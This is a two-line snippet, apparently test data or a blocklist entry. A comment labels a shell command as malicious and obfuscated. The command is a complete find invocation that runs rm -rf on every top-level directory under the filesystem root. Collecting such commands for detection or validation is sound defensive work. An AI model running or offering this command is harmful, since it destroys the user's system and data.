# Malicious, obfuscated: find / -exec rm -rf {} \; deletes every top-level directory one by one.
find / -maxdepth 1 -mindepth 1 -exec rm -rf {} \;
